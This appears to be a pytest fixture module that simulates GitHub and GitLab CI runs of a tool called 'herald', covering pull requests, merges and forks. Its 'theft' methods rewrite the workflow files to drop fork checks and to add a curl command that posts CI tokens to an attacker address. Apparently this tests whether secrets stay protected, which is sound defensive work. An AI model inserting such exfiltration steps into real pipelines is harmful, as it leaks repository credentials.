"""A repository, its code host and its CI, and people who open, merge and revert pull requests there."""

import json
import os
import subprocess

import pytest

from build_machine import Machines, repository_of_herald
from code_host import CodeHost
from described import TOKEN, Sandbox
from workflow_runner import GitHub, GitLab

HERALD = os.environ.get("HERALD", "")


def command(*words, cwd=None, **variables):
    return subprocess.run(
        words, cwd=cwd, env=os.environ | variables, capture_output=True, text=True, timeout=60,
        check=False,
    )


def written(tmp_path, host):
    done = command(HERALD, "init", "--ci", host, "--name", "shop", "-C", str(tmp_path))
    assert done.returncode == 0, done.stderr
    return tmp_path


class Story:
    """A repository with a project, and people who open, merge and revert pull requests."""

    def __init__(self, folder, host_name, code_host):
        self.folder, self.code_host = folder, code_host
        self.sandbox = Sandbox(str(folder / "messages.sqlite"))
        self.origin, self.work = str(folder / "origin.git"), folder / "work"
        subprocess.run(["git", "init", "-q", "--bare", "-b", "main", self.origin], check=True)
        subprocess.run(["git", "init", "-q", "-b", "main", self.work], check=True)
        self.git("remote", "add", "origin", self.origin)
        written(self.work, host_name)
        project = self.work / "campaigns/herald.yaml"
        text = project.read_text()
        assert "https://messages.example.com" in text
        project.write_text(text.replace(
            "https://messages.example.com", f"http://{self.sandbox.host}"))
        source, version = repository_of_herald(str(folder))
        for path in self.work.rglob(".git*/**/herald.yml"):
            text = path.read_text()
            for told, here in [("https://git.example.com/herald.git", source), ("v0.1.0", version)]:
                assert text.count(told) == 1
                text = text.replace(told, here)
            path.write_text(text)
        self.first = self.commit("Start")
        self.git("push", "-q", "origin", "main")
        self.number = 0
        # The head of what was merged, by the commit of the merge.
        self.heads = {}

    def git(self, *words):
        names = ["-c", "user.name=Ana", "-c", "user.email=ana@acme.test"]
        done = subprocess.run(
            ["git", *names, *words], cwd=self.work, capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stderr
        return done.stdout.strip()

    def commit(self, subject):
        self.git("add", "--all")
        self.git("commit", "-q", "-m", subject)
        return self.git("rev-parse", "HEAD")

    def edit(self, old, new):
        chat = self.work / "campaigns/examples/chat.yaml"
        text = chat.read_text()
        assert old in text
        chat.write_text(text.replace(old, new))

    def branch(self, name):
        self.number += 1
        self.git("switch", "-q", "-c", name, "main")

    def push(self, name):
        self.git("push", "-q", "origin", name)
        return self.git("rev-parse", "HEAD")

    def merge(self, name, squashed=False):
        """As GitLab words it; GitHub knows of its own."""
        head = merged = self.git("rev-parse", name)
        if squashed:
            self.git("switch", "-q", "-c", "squashed", "main")
            self.git("merge", "-q", "--squash", name)
            merged = self.commit(f"All of {name}")
        self.git("switch", "-q", "main")
        message = f"Merge {name}\n\nSee merge request acme/shop!{self.number}"
        self.git("merge", "-q", "--no-ff", "-m", message, merged)
        commit = self.push("main")
        self.heads[commit] = head
        for gone in [name, *(["squashed"] if squashed else [])]:
            self.git("branch", "-q", "-D", gone)
        return commit

    def messages(self):
        return {m["name"]: m for m in self.sandbox.call("GET", "/messages?per_page=150").json["data"]}

    def stop(self):
        self.sandbox.stop()


class OnGitHub:
    def __init__(self, folder, story):
        self.story = story
        # The host's own tool, which its machines have.
        machines = Machines(str(folder), HERALD, more={"gh": GH})
        self.runner_folder, self.event = folder, folder / "event.json"
        # What the host knows: the head of the pull request of a commit, and the plan of a head's run.
        self.pulls, self.plans = folder / "pulls", folder / "plans"
        self.pulls.mkdir()
        self.plans.mkdir()
        self.runner = GitHub(story.origin, str(folder), machines, {
            "token": TOKEN, "api": story.code_host.url, "event": str(self.event), "plans": True,
        })

    def opened(self, commit, fork=False, trusted=True):
        """`trusted`: whether the reviewers of `herald-plan` let the branch have its token."""
        self.event.write_text(json.dumps({"pull_request": {"number": self.story.number}}))
        number, head = "github.event.pull_request.number", "github.event.pull_request.head.repo.full_name"
        done = self.runner.run("pull_request", commit, {
            head: "eve/shop" if fork else "acme/shop", number: self.story.number}, trusted)
        plan = self.runner.artifacts.get(("herald-plan", commit))
        (self.plans / commit).write_bytes(plan or b"")
        return done

    workflow = ".github/workflows/herald.yml"

    @staticmethod
    def theft(address, environment):
        """Every job runs for forks, too, and the first thing it does is to send what it has."""
        send = f"curl -s http://{address}/ -d stolen=$HERALD_TOKEN$GITHUB_TOKEN; "
        return [
            ("github.event.pull_request.head.repo.full_name == github.repository", "true"),
            ("        run: herald validate", f"""        env:
          HERALD_TOKEN: ${{{{ secrets.HERALD_TOKEN }}}}
        run: {send}herald validate"""),
            ('if [ -z "$HERALD_TOKEN" ]', f'{send}if [ -z "$HERALD_TOKEN" ]'),
            ("environment: herald-plan", f"environment: {environment}"),
        ]

    def preview(self, commit):
        return self.runner.artifacts["herald-preview", commit].decode()

    def lose_plans(self):
        """The host fails where it is asked for a plan."""
        (self.runner_folder / "broken").touch()

    def merged(self, commit):
        if commit in self.story.heads:
            (self.pulls / commit).write_text(self.story.heads[commit])
        return self.runner.run("push", commit, {})["apply"]

    def at_night(self, commit):
        return self.runner.run("schedule", commit, {})["drift"]


GH = """#!/bin/sh
test "$GH_TOKEN" = job-token || exit 4
case "$1 $2" in
  "api repos/acme/shop/commits/$GITHUB_SHA/pulls")
    test ! -f "$CODE_HOST/pulls/$GITHUB_SHA" || cat "$CODE_HOST/pulls/$GITHUB_SHA" ;;
  "run list")
    while [ "$1" != --commit ]; do shift; done
    test ! -f "$CODE_HOST/plans/$2" || echo "$2" ;;
  "api repos/acme/shop/actions/runs/"*)
    id=${2#*/runs/}
    test -s "$CODE_HOST/plans/${id%%/*}" && echo 1 || echo 0 ;;
  "run download")
    test ! -e "$CODE_HOST/broken" || exit 1
    cp "$CODE_HOST/plans/$3" herald-plan.json ;;
  *) exit 1 ;;
esac
"""


class OnGitLab:
    def __init__(self, folder, story):
        self.story = story
        self.runner = GitLab(
            story.origin, str(folder), Machines(str(folder), HERALD), {"token": TOKEN, "plans": True},
            story.code_host)

    def opened(self, commit, fork=False, trusted=True):
        """`trusted`: whether the branch is one of those that are protected. A fork's pipelines are
        run there."""
        done = self.runner.run(commit, {
            "CI_PIPELINE_SOURCE": "merge_request_event", "CI_PROJECT_ID": "2" if fork else "1",
            "CI_MERGE_REQUEST_SOURCE_PROJECT_ID": "2" if fork else "1",
            "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME": "campaigns/one" if trusted else "one",
            "CI_MERGE_REQUEST_PROJECT_ID": "1", "CI_MERGE_REQUEST_IID": str(self.story.number),
        })
        return {name.removeprefix("herald-"): text for name, text in done.items()}

    workflow = ".gitlab/herald.yml"

    @staticmethod
    def theft(address, environment):
        """The jobs of a merge request send what they have; that of the plan runs for forks, too."""
        send = f"curl -s http://{address}/ -d stolen=$HERALD_TOKEN$GITLAB_TOKEN; "
        return [
            ("$CI_MERGE_REQUEST_SOURCE_PROJECT_ID == $CI_MERGE_REQUEST_PROJECT_ID", "$CI_PROJECT_ID"),
            ("herald validate", f"{send}herald validate"),
            ('if [ -z "$HERALD_TOKEN" ]', f'{send}if [ -z "$HERALD_TOKEN" ]'),
            ("name: herald-plan", f"name: {environment}"),
        ]

    def preview(self, commit):
        return self.runner.artifacts["preview.html", commit].decode()

    def lose_plans(self):
        """The host fails where it is asked for a plan."""
        self.story.code_host.has_trouble = True

    def merged(self, commit):
        return self.runner.run(commit, {
            "CI_PIPELINE_SOURCE": "push", "CI_COMMIT_BRANCH": "main", "CI_DEFAULT_BRANCH": "main",
            "CI_PROJECT_ID": "1",
        })["herald-apply"]

    def at_night(self, commit):
        return self.runner.run(
            commit, {"CI_PIPELINE_SOURCE": "schedule", "CI_PROJECT_ID": "1"})["herald-drift"]


@pytest.fixture(params=[("github", OnGitHub), ("gitlab", OnGitLab)], ids=["github", "gitlab"])
def stage(request, tmp_path):
    name, player = request.param
    code_host = CodeHost()
    story = Story(tmp_path, name, code_host)
    yield story, player(tmp_path, story)
    story.stop()
    code_host.stop()
